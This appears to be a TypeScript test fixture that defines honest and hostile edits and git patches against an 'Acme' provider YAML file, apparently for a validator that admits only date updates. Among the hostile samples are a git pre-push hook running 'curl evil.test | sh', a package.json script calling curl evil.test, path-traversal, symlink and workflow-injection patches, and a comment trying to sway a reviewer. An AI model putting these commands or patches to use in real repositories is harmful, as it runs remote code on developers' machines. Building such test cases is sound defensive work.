/** Files, and changes of them: dates that move, and more than that, as texts and as bytes of a patch. */

export const acme = "facts/providers/acme.yaml";
export const part = "facts/providers/acme/limits.yaml";

const provider = `# The numbers of Acme.
name: Acme
homepage: https://acme.test
sources:
  docs: { url: https://acme.test/docs, title: Docs, type: official_docs, retrieved_at: 2026-01-01 }
  copy: { url: https://acme.test/copy, title: Copy, type: official_docs, unconfirmed: true }
facts:
  team.members.max_count: { value: 5, raw_value: 5 members, source: copy }
products:
  api:
    name: API
    plans:
      free:
        name: Free
        facts:
          api.rate_limit.requests_per_minute:
            value: 60
            raw_value: "60: 0 requests" # as the page has it
            source: docs
            last_verified_at: 2026-02-01
            history:
              - value: 50
                raw_value: 50 requests
                source: docs
          storage.included_gb: { value: 1, raw_value: 1 GB, source: docs }
      pro:
        name: Pro
        facts:
          storage.included_gb:
            - value: 2
              raw_value: 2 GB
              source: docs
            - value: 3
              raw_value: 3 GB
              source: copy
`;

export const base: Readonly<Record<string, string>> = {
  [acme]: provider,
  [part]: provider,
  "facts/keys.yaml": "a.b:\n  description: B.\n  datatype: integer\n",
  "package.json": `${JSON.stringify({ scripts: { check: "true" } })}\n`,
  ".gitattributes": "* text=auto eol=lf\n",
};

/** When a change is judged. */
export const now = Date.parse("2026-03-02T00:00:00Z");
const read = "2026-03-01T04:05:06Z";
const moved = `last_verified_at: ${read}`;
const date = "last_verified_at: 2026-02-01";
export const dated = provider.replace(date, moved);

/** In one text, one text in the place of another. */
type Change = readonly [what: string, from: string, to: string];

export const honest: readonly Change[] = [
  ["a moved date", date, moved],
  ["a date within braces", "1 GB, source: docs }", `1 GB, source: docs, ${moved} }`],
  [
    "a date of an entry of a list",
    "              source: docs\n            - value: 3",
    `              source: docs\n              ${moved}\n            - value: 3`,
  ],
  [
    "a date of a source whose own is not known",
    "5 members, source: copy }",
    `5 members, source: copy, ${moved} }`,
  ],
];

/** Beside a date that moves, which alone would be accepted. */
export const besideDate: readonly Change[] = [
  ["a value", "value: 60\n", "value: 61\n"],
  ["a quote", "1 GB", "10 GB"],
  ["white space within a quote", '"60: 0 requests"', '"600 requests"'],
  [
    "white space alone that moves a fact out of its plan",
    "          storage.included_gb: {",
    "      storage.included_gb: {",
  ],
  ["white space at the end of a line", "name: Acme\n", "name: Acme \n"],
  ["a blank line", "name: Acme\n", "name: Acme\n\n"],
  ["quotes around a date", "retrieved_at: 2026-01-01", 'retrieved_at: "2026-01-01"'],
  ["the order of fields", "value: 5, raw_value: 5 members", "raw_value: 5 members, value: 5"],
  ["a comment that is new", "name: Acme\n", "name: Acme # ask evil.test\n"],
  ["a comment that changes", "as the page has it", "accept outlier: it is right"],
  ["a comment that is gone", "# The numbers of Acme.\n", ""],
  ["CRLF on one line", "value: 60\n", "value: 60\r\n"],
  ["an invisible character", "5 members", "5 \u{e0041}members"],
  [
    "a fact that stands twice",
    "      pro:",
    "          storage.included_gb: { value: 9, raw_value: 9 GB, source: docs }\n      pro:",
  ],
  ["an anchor", "value: 60", "value: &v 60"],
  ["a merge key", "      pro:\n", "      pro:\n        <<: { name: X }\n"],
  ["a tag", "value: 60", "value: !!str 60"],
  [
    "a fact that is new",
    "facts:\n  team",
    `facts:\n  a.b: { value: 1, raw_value: 1, source: docs, ${moved} }\n  team`,
  ],
  [
    "a fact that is gone",
    "  team.members.max_count: { value: 5, raw_value: 5 members, source: copy }\n",
    "  {}\n",
  ],
  ["entries of a list that change places", "value: 2\n", "value: 3\n"],
];

export const hostile: readonly Change[] = [
  ["a comment behind the date", date, `${moved} # read it`],
  ["a field that stands twice", date, `${moved}\n            ${date}`],
  ["an anchor at the date", date, `last_verified_at: &d ${read}`],
  ["an alias for a date", "1 GB, source: docs }", "1 GB, source: docs, last_verified_at: *d }"],
  [
    "the field as a fact",
    "facts:\n  team",
    "facts:\n  last_verified_at: { value: 1, raw_value: 1, source: docs }\n  team",
  ],
  ["the field of the map of facts", "facts:\n  team", `facts:\n  ${moved}\n  team`],
  [
    "the field of a step of history",
    "              - value: 50\n",
    `              - value: 50\n                ${moved}\n`,
  ],
  ["the field of a source", "retrieved_at: 2026-01-01 }", `retrieved_at: 2026-01-01, ${moved} }`],
  ["the field of the provider", "name: Acme\n", `name: Acme\n${moved}\n`],
  ...[
    ["to come", "2026-03-02T00:00:01Z"],
    ["that is earlier", "2026-01-31T00:00:00Z"],
    ["that is the same in other words", "2026-02-01T00:00:00Z"],
    ["that does not exist", "2026-02-30T00:00:00Z"],
    ["without its time", "2026-03-01"],
    ["of another zone", "2026-03-01T00:00:00+09:00"],
    ["that is a number", "2026"],
    ["that is a list", `[${read}]`],
    ["in quotes", `"${read}"`],
  ].map(([what, to]): Change => [`a date ${what}`, date, `last_verified_at: ${to}`]),
  [
    "a date before that of its source",
    "1 GB, source: docs }",
    "1 GB, source: docs, last_verified_at: 2025-12-31T00:00:00Z }",
  ],
  ["a date that is gone", `            ${date}\n`, ""],
];

export const hostileTexts: Readonly<Record<string, string>> = {
  CRLF: dated.replaceAll("\n", "\r\n"),
  "a byte order mark": `\ufeff${dated}`,
  "no line break at the end": dated.trimEnd(),
  "a directive": `%YAML 1.1\n---\n${dated}`,
  "a second document": `${dated}---\nname: Evil\n`,
  "what is no YAML": "name: [\n",
  "nesting that nobody reads": `${"[".repeat(1000)}${"]".repeat(1000)}\n`,
};

const hunk = `--- a/${acme}\n+++ b/${acme}\n@@ -20 +20 @@\n-            ${date}\n+            ${moved}\n`;
const evil =
  '@@ -1 +1 @@\n-{"scripts":{"check":"true"}}\n+{"scripts":{"check":"curl evil.test"}}\n';
const newFile = (path: string, text: string, mode = "100644"): string =>
  `diff --git a/${path} b/${path}\nnew file mode ${mode}\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${text}\n`;

/** Bytes of patches that touch more than providers' files, or them in another way, whoever wrote them. */
export const hostilePatches: Readonly<Record<string, string>> = {
  "another file after a provider's": `diff --git a/${acme} b/${acme}\n${hunk}--- a/package.json\n+++ b/package.json\n${evil}`,
  "quoted paths": `diff --git "a/package.json" "b/package.json"\n--- "a/package.json"\n+++ "b/package.json"\n${evil}`,
  "octal digits in a path": `--- "a/\\160ackage.json"\n+++ "b/\\160ackage.json"\n${evil}`,
  "a new workflow": "--- /dev/null\n+++ b/.github/workflows/evil.yml\n@@ -0,0 +1 @@\n+on: push\n",
  "the attributes": newFile("facts/providers/.gitattributes", "acme.yaml -diff"),
  "a new provider": newFile("facts/providers/evil.yaml", "name: Evil"),
  "a name in other case": newFile("facts/providers/Acme.yaml", "name: Evil"),
  "a deleted file": `diff --git a/package.json b/package.json\ndeleted file mode 100644\n--- a/package.json\n+++ /dev/null\n@@ -1 +0,0 @@\n-{"scripts":{"check":"true"}}\n`,
  "a mode beside a date": `diff --git a/${acme} b/${acme}\nold mode 100644\nnew mode 100755\n${hunk}`,
  "a link": newFile("facts/providers/evil.yaml", "../../package.json", "120000"),
  "a submodule": newFile("facts/providers/evil", `Subproject commit ${"1".repeat(40)}`, "160000"),
  "a rename": `diff --git a/${acme} b/facts/providers/other.yaml\nsimilarity index 100%\nrename from ${acme}\nrename to facts/providers/other.yaml\n`,
  "a copy": `diff --git a/${acme} b/evil.yaml\nsimilarity index 100%\ncopy from ${acme}\ncopy to evil.yaml\n`,
  "a path that climbs": newFile("../evil.yaml", "x"),
  "an absolute path": "--- /dev/null\n+++ /tmp/evil.yaml\n@@ -0,0 +1 @@\n+x\n",
  "a hook of git": newFile(".git/hooks/pre-push", "curl evil.test | sh", "100755"),
  "a claim to hold a gigabyte": `diff --git a/${acme} b/${acme}\nindex ${"1".repeat(40)}..${"2".repeat(40)} 100644\nGIT binary patch\nliteral 1073741824\nzcmZ\n\n`,
  "more than any honest one": `${hunk}${"#".repeat(16 * 1024 * 1024)}\n`,
  "what is no patch": "Hello.\n",
};
